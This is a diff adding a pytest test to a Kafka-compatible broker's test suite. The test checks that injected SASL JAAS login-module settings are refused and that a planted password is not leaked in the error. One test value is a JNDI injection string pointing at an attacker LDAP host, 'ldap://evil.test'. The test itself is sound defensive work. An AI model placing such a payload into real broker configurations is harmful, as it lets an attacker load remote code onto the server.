@@ -13,9 +13,11 @@ from typing import Any
 
 import pytest
 
+from ottla.client.admin import ConfigChange, ConfigResource, ResourceType
+from ottla.client.blocking import Admin
 from ottla.wire import Message, decode
 from ottla.wire.apis import response_class
-from ottla.wire.errors import ErrorCode
+from ottla.wire.errors import ErrorCode, KafkaError
 from ottla.wire.frames import decode_response_header, encode_request
 from ottla.wire.messages.api_versions import ApiVersionsRequest
 from ottla.wire.messages.metadata import MetadataRequest
@@ -293,3 +295,27 @@ def test_a_request_in_the_middle_of_a_re_authentication_is_not_answered(session:
     answer = session.metadata()
     assert answer is None or not answer.brokers
     assert session.is_closed()
+
+
+@pytest.mark.skipif(ON_KAFKA, reason="Kafka takes any text, which is then in force for new listeners only")
+@pytest.mark.parametrize(
+    "text",
+    [
+        "nonsense",
+        'org.apache.kafka.common.security.plain.PlainLoginModule required user_mallory="m-secret"',
+        "org.apache.kafka.common.security.plain.PlainLoginModule required;",
+        'org.apache.kafka.common.security.scram.ScramLoginModule required user_mallory="m-secret";',
+        'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.test";',
+    ],
+)
+def test_users_that_cannot_be_read_are_refused_and_the_others_stay(node: SecuredOttla, text: str) -> None:
+    setting = "listener.name.sessions.plain.sasl.jaas.config"
+    this = ConfigResource(ResourceType.BROKER, "1")
+    with Admin(bootstrap_servers=node.bootstrap) as admin:
+        with pytest.raises(KafkaError, match=setting) as refused:
+            admin.alter_configs({this: [ConfigChange(setting, text)]})
+        assert refused.value.code == ErrorCode.INVALID_REQUEST
+        assert "m-secret" not in str(refused.value)
+    settings = node.client() | {"bootstrap.servers": f"127.0.0.1:{node.ports['SESSIONS']}"}
+    with Admin(settings) as alice:
+        alice.connect()
